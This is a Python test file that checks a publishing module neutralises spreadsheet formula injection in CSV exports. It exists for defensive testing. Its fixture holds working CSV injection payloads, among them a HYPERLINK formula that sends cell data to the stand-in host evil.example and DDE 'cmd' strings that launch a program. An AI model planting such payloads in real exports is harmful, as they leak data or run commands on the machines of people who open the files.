"""Issue 16 part 4 (CSVs): text from data that a spreadsheet would run as a formula is
written inert (OWASP: a leading single quote); numbers, negative ones included, stay numbers.
Every published CSV goes through `publish.write_csv`, so the tables are tested through
`publish_tables` on a warehouse holding hostile labels, and the register through
`write_register`."""

from __future__ import annotations

import csv
import json

import duckdb
import pytest

from succession import publish

HOSTILE = {
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "+1": "'+1",
    "-2+3": "'-2+3",
    "\tTabbed": "'\tTabbed",
    "\rReturned": "'\nReturned",  # a lone CR would end the row for a reader
    "-": "'-",
    "Career enhancement": "Career enhancement",  # ordinary text is untouched
    "a=b": "a=b",  # only the first character matters
}


@pytest.fixture
def hostile_warehouse(tmp_path):
    path = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("create schema publish")
        con.execute(
            "create table publish.pub_survey_distributions (option_label varchar, n integer, change double, "
            "value_shown varchar)"
        )
        for i, label in enumerate(HOSTILE):
            con.execute(
                "insert into publish.pub_survey_distributions values (?, ?, ?, ?)",
                [label, i - 3, -1.5 * i, ["-3689", "-2.5", "c", "z", "1e-05", "-1.5e-05", "12", "0", "x"][i]],
            )
    return path


def _rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_published_tables_neutralise_formula_text_and_keep_numbers(hostile_warehouse, tmp_path):
    [written] = publish.publish_tables(hostile_warehouse, tmp_path / "figures")
    assert written.name == "survey_distributions.csv"
    rows = _rows(written)
    assert {r["option_label"] for r in rows} == set(HOSTILE.values())
    for r in rows:
        # a cell a spreadsheet reads as a formula starts with one of these: none is left
        assert not r["option_label"].startswith(publish.FORMULA_TRIGGERS), r
        int(r["n"]), float(r["change"])  # numeric columns stay plain numbers, negatives included
    assert {r["n"] for r in rows} >= {"-3", "-2", "-1"}
    assert "-1.5" in {r["change"] for r in rows}
    # text cells that are values as shown: a negative number stays a number
    assert {r["value_shown"] for r in rows} == {"-3689", "-2.5", "c", "z", "1e-05", "-1.5e-05", "12", "0", "x"}
    text = written.read_text(encoding="utf-8")
    assert "\n=" not in text and ",=" not in text and ",@" not in text and ",+" not in text


def test_register_goes_through_the_same_writer(hostile_warehouse, tmp_path):
    with duckdb.connect(str(hostile_warehouse)) as con:
        con.execute("create schema audit")
        columns = ", ".join(
            f"{c} varchar" for c in publish.REGISTER_COLUMNS if c not in ("report", "region", "period", "section")
        )
        con.execute(f"create table audit.fct_figures ({columns})")
        con.execute(
            "insert into audit.fct_figures (figure_id, value_shown, unit, base, indicator) values "
            "('fig.a', '-12', 'count', '7', '=1+2'), ('fig.b', '=cmd|calc', 'count', null, 'ok')"
        )
    reports = tmp_path / "reports" / "doc"
    reports.mkdir(parents=True)
    (reports / publish.USED_FILE).write_text(
        json.dumps(
            {
                "report": "doc",
                "region": "E12000008",
                "period": "2024-25 Q4",
                "figures": [{"figure_id": "fig.a", "section": "@intro"}, {"figure_id": "fig.b", "section": "s"}],
            }
        )
    )
    rows = {
        r["figure_id"]: r
        for r in _rows(publish.write_register(hostile_warehouse, tmp_path / "reports", tmp_path / "figures"))
    }
    assert rows["fig.a"]["value_shown"] == "-12" and rows["fig.a"]["indicator"] == "'=1+2"
    assert rows["fig.a"]["section"] == "'@intro" and rows["fig.b"]["value_shown"] == "'=cmd|calc"


@pytest.mark.parametrize("value", [-3, -2.5, 0, None])
def test_non_text_cells_are_never_changed(value):
    assert publish.neutralise_cell(value) is value
